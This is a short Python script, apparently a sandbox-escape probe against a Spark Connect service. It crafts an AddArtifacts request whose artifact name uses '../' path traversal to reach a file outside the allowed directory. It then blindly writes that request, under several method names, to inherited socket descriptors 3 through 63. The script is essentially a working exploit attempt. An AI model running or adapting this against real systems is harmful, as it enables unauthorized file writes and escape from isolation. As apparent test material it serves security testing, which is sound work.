# seeks: write
# Calls of methods that the channel never makes, by names of several forms.
import json
import socket
import struct

from pyspark.sql.connect import proto


def model(tg):
    request = proto.AddArtifactsRequest(session_id="x")
    artifact = request.batch.artifacts.add()
    artifact.name = "files/../../../../../../../../OUTSIDE_FILE"
    artifact.data.data = b"x"
    body = request.SerializeToString()
    for method in ("AddArtifacts", "/spark.connect.SparkConnectService/AddArtifacts", "__init__", "close", "register"):
        header = json.dumps({"method": method}).encode()
        for number in range(3, 64):
            try:
                link = socket.socket(fileno=number)
                link.sendall(struct.pack("!BIQ", 2, len(header), len(body)) + header + body)
                link.detach()
            except OSError:
                pass
